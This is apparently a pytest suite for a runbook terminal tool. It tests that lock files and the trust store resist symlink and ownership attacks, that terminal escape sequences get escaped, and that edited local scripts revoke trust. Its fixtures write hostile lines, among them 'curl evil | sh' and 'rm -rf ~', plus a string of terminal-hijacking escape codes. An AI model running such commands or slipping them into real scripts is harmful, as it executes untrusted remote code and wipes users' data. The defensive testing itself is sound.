"""Issue 11, point 9: our own files (run locks, the trust store) cannot be turned against us, and trust
covers the local scripts a runbook runs.

Attacks through the real CLI where the front ends already show the effect (`run`, `check`, `trust`),
and through the engine API (`RunLock`, `trust_status`) where the reason matters. RELIABILITY.md
lists each attack with its result.
"""

from __future__ import annotations

import fcntl
import json
import os
import pwd
import stat
import subprocess
from pathlib import Path

import pytest

from runbook_tui.engine.lock import RunLock, describe_holder
from runbook_tui.engine.trust import is_trusted, trust_status
from runbook_tui.engine.local_scripts import command_scripts
from runbook_tui.engine.ownfiles import UnsafeFileError
from runbook_tui.engine.trust import trust_file, trusted_entries
from runbook_tui.parse import load_runbook
from tests.test_reliability import cli, rbt, trust, write

ESC = "\x1b"
HOSTILE = f"{ESC}]0;owned{ESC}\\{ESC}[8m{ESC}[2J\x9b31mfake{ESC}[0m"  # title, conceal, clear, 8-bit CSI
VICTIM_TEXT = "root-owned content that no run may truncate\n"


def simple_book(directory: Path, command: str = "touch ran") -> Path:
    return write(directory, f"# Book\n## Steps\n```sh\n{command}\n```\n")


def victim(directory: Path) -> Path:
    path = directory / "victim"
    path.write_text(VICTIM_TEXT)
    return path


def nobody() -> int:
    """Another user's uid, to give a directory away with `os.chown` (root only). Skips without root,
    unless RUNBOOK_TUI_REQUIRE_ROOT=1 (CI runs as root and sets it): then it fails."""
    missing = "chown to another user needs root" if os.geteuid() != 0 else None
    try:
        uid = pwd.getpwnam("nobody").pw_uid
    except KeyError:
        missing = "no user 'nobody' to own the directory"
    if missing and os.environ.get("RUNBOOK_TUI_REQUIRE_ROOT") == "1":
        pytest.fail(f"{missing} (RUNBOOK_TUI_REQUIRE_ROOT=1)")
    if missing:
        pytest.skip(missing)
    return uid


# ---- locks ---------------------------------------------------------------------------------------------------

def test_a_symlink_planted_at_the_lock_path_is_not_followed(tmp_path: Path) -> None:
    """Another user (or anything) plants `<lock>.lock -> /a/root-owned/file`: the run must not truncate it."""
    book = simple_book(tmp_path)
    trust(book)
    lock = RunLock(str(book)).path
    lock.parent.mkdir(mode=0o700, parents=True, exist_ok=True)
    target = victim(tmp_path)
    lock.symlink_to(target)
    done = cli("run", str(book), "--yes", cwd=tmp_path)
    assert target.read_text() == VICTIM_TEXT
    assert done.returncode == 2 and "symbolic link" in done.stderr and "Traceback" not in done.stderr, done.stderr
    assert not (tmp_path / "ran").exists()


def test_lock_api_refuses_a_planted_symlink(tmp_path: Path) -> None:
    lock = RunLock(str(tmp_path / "book.md"))
    lock.path.parent.mkdir(mode=0o700, parents=True, exist_ok=True)
    target = victim(tmp_path)
    lock.path.symlink_to(target)
    with pytest.raises(UnsafeFileError, match="symbolic link"):
        lock.acquire("t.jsonl")
    assert target.read_text() == VICTIM_TEXT


@pytest.mark.parametrize("target_exists", [True, False])
def test_a_lock_directory_that_is_a_symlink_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                       target_exists: bool) -> None:
    elsewhere = tmp_path / "elsewhere"
    if target_exists:
        elsewhere.mkdir(mode=0o700)
    monkeypatch.setenv("RUNBOOK_TUI_LOCK_DIR", str(tmp_path / "locks"))
    (tmp_path / "locks").symlink_to(elsewhere)
    with pytest.raises(UnsafeFileError, match="not a directory"):
        RunLock(str(tmp_path / "book.md")).acquire("t.jsonl")
    assert list(elsewhere.iterdir()) == [] if target_exists else not elsewhere.exists()


def test_a_lock_directory_owned_by_another_user_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    uid = nobody()
    theirs = tmp_path / "theirs"
    theirs.mkdir(mode=0o700)
    os.chown(theirs, uid, -1)
    monkeypatch.setenv("RUNBOOK_TUI_LOCK_DIR", str(theirs))
    with pytest.raises(UnsafeFileError, match=f"belongs to uid {uid}"):
        RunLock(str(tmp_path / "book.md")).acquire("t.jsonl")
    assert list(theirs.iterdir()) == []


def test_xdg_runtime_dir_taken_over_by_another_user_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`XDG_RUNTIME_DIR` pointing at a shared sticky directory where someone made `runbook-tui` first."""
    uid = nobody()
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o1777)
    (shared / "runbook-tui").mkdir(mode=0o777)
    os.chown(shared / "runbook-tui", uid, -1)
    monkeypatch.delenv("RUNBOOK_TUI_LOCK_DIR")
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(shared))
    with pytest.raises(UnsafeFileError, match="belongs to uid"):
        RunLock(str(tmp_path / "book.md")).acquire("t.jsonl")


def test_a_lock_directory_others_may_write_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shared = tmp_path / "locks"
    shared.mkdir()
    os.chmod(shared, 0o1777)  # what the old shared /tmp/runbook-tui-locks looked like
    monkeypatch.setenv("RUNBOOK_TUI_LOCK_DIR", str(shared))
    with pytest.raises(UnsafeFileError, match="may be written by group or others"):
        RunLock(str(tmp_path / "book.md")).acquire("t.jsonl")


def test_lock_directory_defaults_to_a_private_runtime_directory(tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    runtime = tmp_path / "run-user"
    runtime.mkdir(mode=0o700)
    monkeypatch.delenv("RUNBOOK_TUI_LOCK_DIR")
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
    lock = RunLock(str(tmp_path / "book.md"))
    assert lock.acquire("t.jsonl") is None
    try:
        assert lock.path.parent == runtime / "runbook-tui"
        info = os.stat(lock.path.parent)
        assert stat.S_IMODE(info.st_mode) == 0o700 and info.st_uid == os.geteuid()
        assert stat.S_IMODE(os.stat(lock.path).st_mode) == 0o600
    finally:
        lock.release()


def test_without_a_runtime_directory_locks_go_to_the_state_directory_not_tmp(tmp_path: Path,
                                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("RUNBOOK_TUI_LOCK_DIR")
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    lock = RunLock(str(tmp_path / "book.md"))
    assert lock.acquire("t.jsonl") is None
    try:
        assert lock.path.is_relative_to(os.environ["XDG_STATE_HOME"])
        assert stat.S_IMODE(os.stat(lock.path.parent).st_mode) == 0o700
    finally:
        lock.release()


def _hold_foreign_lock(book: Path) -> int:
    """A lock file as another process left it: held, with text chosen to attack our terminal."""
    path = RunLock(str(book)).path
    path.parent.mkdir(mode=0o700, parents=True, exist_ok=True)
    fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
    os.write(fd, json.dumps({"user": HOSTILE, "host": "h", "pid": 1, "since": "now",
                             "transcript": f"/x{ESC}[1A{ESC}[2K"}).encode())
    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    return fd


def test_foreign_lock_content_is_printed_escaped(tmp_path: Path) -> None:
    book = simple_book(tmp_path)
    trust(book)
    fd = _hold_foreign_lock(book)
    try:
        done = cli("run", str(book), "--yes", cwd=tmp_path)
    finally:
        os.close(fd)
    warning = next(line for line in done.stderr.splitlines() if "another run" in line)
    assert ESC not in done.stderr and "\x9b" not in done.stderr
    assert "\\x1b]0;owned" in warning and "\\x9b31mfake" in warning


def test_describe_holder_escapes_every_field_and_bounds_its_length() -> None:
    shown = describe_holder({"user": HOSTILE, "host": "\x07\x08", "pid": "1\r2", "since": [ESC],
                             "transcript": "x" * 100_000})
    assert not any(ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f for c in shown)
    assert "\\x07\\x08" in shown and "1\\x0d2" in shown
    assert len(shown) < 2000


# ---- the trust store -----------------------------------------------------------------------------------------

def test_twelve_parallel_trust_calls_all_land(tmp_path: Path) -> None:
    books = [write(tmp_path, f"# Book {n}\n## Steps\n```sh\ntouch ran-{n}\n```\n", f"book-{n}.md") for n in range(12)]
    processes = [subprocess.Popen(rbt("trust", str(book)), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                 for book in books]
    outputs = [(p.communicate(timeout=120), p.returncode) for p in processes]
    for (stdout, stderr), code in outputs:
        assert code == 0 and stdout.startswith("trusted "), stderr
    assert sorted(trusted_entries()) == sorted(str(b) for b in books)
    assert all(is_trusted(load_runbook(b)) for b in books)
    store = trust_file()
    assert stat.S_IMODE(os.stat(store).st_mode) == 0o600 and stat.S_IMODE(os.stat(store.parent).st_mode) == 0o700
    assert sorted(p.name for p in store.parent.iterdir()) == ["trusted.json", "trusted.json.lock"]  # no temp left


def test_trust_list_shows_path_sha256_when_and_who_escaped(tmp_path: Path) -> None:
    book = write(tmp_path, "# Book\n## Steps\n```sh\n./deploy.sh\n```\n", f"evil{ESC}]0;x{ESC}[2J.md")
    (tmp_path / "deploy.sh").write_text("echo deploy\n")
    assert cli("trust", str(book), cwd=tmp_path).returncode == 0
    listed = cli("trust", "--list")
    assert listed.returncode == 0 and ESC not in listed.stdout
    sha = load_runbook(book).sha256
    assert f"{tmp_path}/evil\\x1b]0;x\\x1b[2J.md" in listed.stdout
    assert sha in listed.stdout and " by " in listed.stdout and "trusted 20" in listed.stdout
    assert f"{tmp_path}/deploy.sh" in listed.stdout


def test_trust_revoke(tmp_path: Path) -> None:
    book = simple_book(tmp_path)
    trust(book)
    assert ", trusted" in cli("check", str(book)).stdout
    revoked = cli("trust", "--revoke", str(book))
    assert revoked.returncode == 0 and "no longer trusted" in revoked.stdout
    assert "not trusted" in cli("check", str(book)).stdout
    refused = cli("run", str(book), "--yes", cwd=tmp_path)
    assert refused.returncode == 2 and not (tmp_path / "ran").exists()
    again = cli("trust", "--revoke", str(book))
    assert again.returncode == 2 and "was not trusted" in again.stderr


def test_a_trust_store_swapped_for_a_symlink_is_not_believed(tmp_path: Path) -> None:
    """Someone points our store at a file of theirs that trusts their runbook: nothing is trusted, and
    `trust` refuses to write through the link."""
    book = simple_book(tmp_path)
    forged = tmp_path / "forged.json"
    forged.write_text(json.dumps({str(book): load_runbook(book).sha256}))
    trust_file().parent.mkdir(mode=0o700, parents=True, exist_ok=True)
    trust_file().symlink_to(forged)
    status = trust_status(load_runbook(book))
    assert not status.trusted and "symbolic link" in status.reason
    assert "not trusted" in cli("check", str(book)).stdout
    before = forged.read_text()
    refused = cli("trust", str(book))
    assert refused.returncode == 2 and "symbolic link" in refused.stderr and "Traceback" not in refused.stderr
    assert forged.read_text() == before


def test_a_trust_store_directory_others_may_write_is_refused(tmp_path: Path) -> None:
    book = simple_book(tmp_path)
    trust(book)
    os.chmod(trust_file().parent, 0o777)
    status = trust_status(load_runbook(book))
    assert not status.trusted and "may be written by group or others" in status.reason
    refused = cli("trust", str(book))
    assert refused.returncode == 2 and "chmod go-w" in refused.stderr


def test_a_first_format_trust_entry_still_trusts_a_runbook_without_scripts(tmp_path: Path) -> None:
    plain, scripted = simple_book(tmp_path), write(tmp_path, "# S\n## Steps\n```sh\n./x.sh\n```\n", "s.md")
    (tmp_path / "x.sh").write_text("true\n")
    trust_file().parent.mkdir(mode=0o700, parents=True, exist_ok=True)
    trust_file().write_text(json.dumps({str(b): load_runbook(b).sha256 for b in (plain, scripted)}))
    assert trust_status(load_runbook(plain)).trusted
    status = trust_status(load_runbook(scripted))
    assert not status.trusted and "trust the runbook again" in status.reason


# ---- local scripts are part of what is trusted -------------------------------------------------------------

SCRIPT_FORMS = {
    "dot-slash": ("./deploy.sh --now", "deploy.sh"),
    "bash": ("bash scripts/x.sh", "scripts/x.sh"),
    "sh": ("sh ./x", "x"),
    "python": ("python3 -u tools/y.py --dry-run", "tools/y.py"),
    "source": ("source ./env.sh", "env.sh"),
    "dot": ("set -e\n. ./env.sh && echo sourced", "env.sh"),  # a block opening with `. ` is not a command today
    "after-cd": ("cd scripts && sudo -E ./x.sh 2>&1 | tee log", "scripts/x.sh"),
    "bash-c": ("bash -c 'cd tools; ./y.sh'", "tools/y.sh"),
}


@pytest.mark.parametrize("form", SCRIPT_FORMS)
def test_a_changed_local_script_revokes_trust_naming_the_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                              form: str) -> None:
    command, relative = SCRIPT_FORMS[form]
    script = tmp_path / relative
    script.parent.mkdir(parents=True, exist_ok=True)
    script.write_text("echo original\n")
    book = write(tmp_path, f"# Book\n## Steps\n```sh\n{command}\n```\n")
    monkeypatch.chdir(tmp_path)  # no cwd in the runbook: commands run where the operator is
    assert cli("trust", str(book), cwd=tmp_path).returncode == 0
    assert trust_status(load_runbook(book)).trusted
    script.write_text("echo changed; rm -rf ~\n")
    status = trust_status(load_runbook(book))
    assert not status.trusted and str(script) in status.reason and "changed" in status.reason
    script.unlink()
    status = trust_status(load_runbook(book))
    assert not status.trusted and str(script) in status.reason and "missing" in status.reason


def test_a_trusted_runbook_calling_a_changed_deploy_script_no_longer_runs_unattended(tmp_path: Path) -> None:
    """The issue's reproduction: `./deploy.sh` changed after `trust`, and `run --yes` still ran it."""
    deploy = tmp_path / "deploy.sh"
    deploy.write_text("#!/bin/sh\ntouch deployed\n")
    deploy.chmod(0o755)
    book = write(tmp_path, "# Deploy\n## Steps\n```sh\n./deploy.sh\n```\n")
    assert cli("trust", str(book), cwd=tmp_path).returncode == 0
    deploy.write_text("#!/bin/sh\ntouch hijacked\n")
    assert "not trusted" in cli("check", str(book), cwd=tmp_path).stdout
    refused = cli("run", str(book), "--yes", cwd=tmp_path)
    assert refused.returncode == 2 and "not trusted" in refused.stderr
    assert not (tmp_path / "hijacked").exists()
    assert cli("trust", str(book), cwd=tmp_path).returncode == 0  # reviewed and trusted again: it runs
    assert cli("run", str(book), "--yes", cwd=tmp_path).returncode == 0 and (tmp_path / "hijacked").exists()


def test_scripts_resolve_from_the_cwd_the_engine_uses(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`{cwd=sub}` on the block, or the front matter's `cwd`, is where `./deploy.sh` is looked for; run
    from elsewhere without one, a different file would run, and that one was never trusted."""
    for directory in (tmp_path / "sub", tmp_path / "top", tmp_path):
        directory.mkdir(exist_ok=True)
        (directory / "deploy.sh").write_text(f"echo {directory.name}\n")
    annotated = write(tmp_path, f"# A\n## Steps\n```sh {{cwd={tmp_path / 'sub'}}}\n./deploy.sh\n```\n", "a.md")
    fronted = write(tmp_path, f"---\ncwd: {tmp_path / 'top'}\n---\n# F\n## Steps\n```sh\n./deploy.sh\n```\n", "f.md")
    plain = write(tmp_path, "# P\n## Steps\n```sh\n./deploy.sh\n```\n", "p.md")
    monkeypatch.chdir(tmp_path)
    for book in (annotated, fronted, plain):
        assert cli("trust", str(book), cwd=tmp_path).returncode == 0
    (tmp_path / "deploy.sh").write_text("echo changed\n")  # only the plain runbook runs this one
    assert trust_status(load_runbook(annotated)).trusted and trust_status(load_runbook(fronted)).trusted
    assert not trust_status(load_runbook(plain)).trusted
    monkeypatch.chdir(tmp_path / "sub")
    status = trust_status(load_runbook(plain))
    assert not status.trusted and f"{tmp_path / 'sub' / 'deploy.sh'}, which was not part of" in status.reason


def test_shell_and_bash_env_files_are_pinned_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "wrapper").write_text("#!/bin/sh\nexec sh \"$@\"\n")
    (tmp_path / "hook.sh").write_text("true\n")
    book = write(tmp_path, "---\nshell: ./wrapper\nenv:\n  BASH_ENV: ./hook.sh\n---\n"
                           "# B\n## Steps\n```sh\necho hi\n```\n")
    monkeypatch.chdir(tmp_path)
    assert cli("trust", str(book), cwd=tmp_path).returncode == 0
    (tmp_path / "hook.sh").write_text("curl evil | sh\n")
    status = trust_status(load_runbook(book))
    assert not status.trusted and "hook.sh" in status.reason
    assert cli("trust", str(book), cwd=tmp_path).returncode == 0
    (tmp_path / "wrapper").write_text("#!/bin/sh\nrm -rf ~\n")
    assert "wrapper" in trust_status(load_runbook(book)).reason


@pytest.mark.parametrize(("command", "expected"), [
    ("./a.sh; /opt/b.sh && ../c.sh || d.sh", ["/w/a.sh", "/opt/b.sh", "/c.sh"]),  # d.sh: found on PATH
    ("(cd /srv && ./a.sh); ./b.sh", ["/srv/a.sh", "/w/b.sh"]),  # a subshell's cd ends with it
    ("x=$(./a.sh) `./b.sh` | ./c.sh", ["/w/a.sh", "/w/b.sh", "/w/c.sh"]),
    ("if ./a.sh; then\n  ./b.sh\nfi", ["/w/a.sh", "/w/b.sh"]),
    ("echo a#b; ./a.sh  # don't", ["/w/a.sh"]),  # a mid-word '#' is no comment; an apostrophe in one is fine
    ("cat <<EOF\nit's here\nEOF\n./a.sh", ["/w/a.sh"]),  # an apostrophe in a here-document hides nothing
    ("./a.sh \\\n  --flag", ["/w/a.sh"]),
    ("FOO=1 sudo -u pg env A=1 timeout -s KILL 5 nice -n 5 ./a.sh", ["/w/a.sh"]),
    ("/usr/bin/env python3 tools/y.py; /usr/local/bin/tool", ["/w/tools/y.py"]),  # system files are not pinned
    ("python -m pkg; python -c 'x'; bash -ec 'true'; perl -e 1; sh -s < ./in.sh", []),
    ("$SCRIPT; ./$X.sh; ./*.sh; bash \"$F\"", []),  # computed at run time: nothing to pin here
    ("cd $DIR && ./a.sh; cd /srv; ./b.sh; cd -; ./c.sh", ["/srv/b.sh"]),
    ("echo './not-run.sh' > ./out.sh", []),
    ("bash 'unbalanced\n./a.sh", ["/w/a.sh"]),
])
def test_which_local_files_a_command_executes(command: str, expected: list[str]) -> None:
    assert list(command_scripts(command, "/w")) == expected
